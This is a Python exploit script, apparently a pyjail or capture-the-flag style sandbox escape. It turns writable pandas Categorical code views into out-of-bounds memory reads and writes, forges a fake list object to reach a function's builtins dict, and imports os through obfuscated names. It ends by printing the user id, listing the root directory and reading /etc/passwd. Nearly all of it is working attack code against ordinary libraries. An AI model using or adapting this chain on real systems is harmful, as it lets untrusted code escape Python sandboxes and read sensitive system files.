# source: pandas 1.5.3 NDArrayBackedExtensionArray.view (pandas/core/arrays/_mixins.py) gives writable codes; take_nd -> libalgos take_1d_object_object / take_1d_int64_int64 index the categories unchecked; CPython 3.11 layouts (PyFunctionObject.func_builtins at +24, __slots__ sorted by name, default repr shows the address) as in public pyjail/CTF "fakeobj" write-ups
# family: writable view of Categorical codes via .view(dtype) -> relative heap read (int64 categories) + fake object (object categories) -> builtins dict
# goal: from the out-of-bounds read, forge a list whose items are a function's fields, take its builtins dict, then __import__("this") and __import__("os") (uid, listdir /, /etc/passwd)
import sys

import numpy as np
import pandas as pd


class Tok:
    pass


class Big:
    __slots__ = tuple("a%02d" % i for i in range(80))


def addr(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


def probe():
    return 0


N = 40000
# object categories whose addresses we know (default repr); int32 codes
toks = [Tok() for _ in range(N)]
cat_o = pd.Categorical.from_codes([0, 1], categories=toks)
# int64 categories: a writable buffer (Index.view) and a relative reader (codes via Categorical.view)
qv = np.arange(N, dtype=np.int64) + 10 ** 12
cat_i = pd.Categorical(qv, categories=qv)
qbuf = cat_i.categories.view(np.ndarray)
wi = cat_i.view(np.ndarray)
t0, t1 = addr(toks[0]), addr(toks[1])
off = None
for k in range(0, 60):
    base = -(k + 1) * N
    wi[:] = np.arange(base, base + N, dtype=np.int32)
    got = np.asarray(cat_i)
    for h in np.nonzero(got == t0)[0]:
        if h + 1 < N and got[h + 1] == t1:
            off = base + int(h)
    if off is not None:
        break
print("token buffer is", off, "words from the int64 categories buffer")

# a fake list inside Big's slots: type=list, size=huge, items=the function object
big = Big()
big.a00 = 1
big.a01 = list
big.a02 = 5
big.a03 = probe
big.a04 = 5
j = 100
qbuf[j] = addr(big) + 16
wo = cat_o.view(np.ndarray)
wo[0] = j - off
fake = np.asarray(cat_o)[0]
bdict = fake[3]          # probe's func_builtins
imp = bdict[chr(95) * 2 + "import" + chr(95) * 2]
print("got", imp)
imp("this")
m = imp("o" + "s")
print("uid", m.getuid(), "listdir /", m.listdir("/"))
fd = m.open(chr(47).join(["", "etc", "passwd"]), 0)
print(m.read(fd, 200).decode())
sys.stdout.flush()
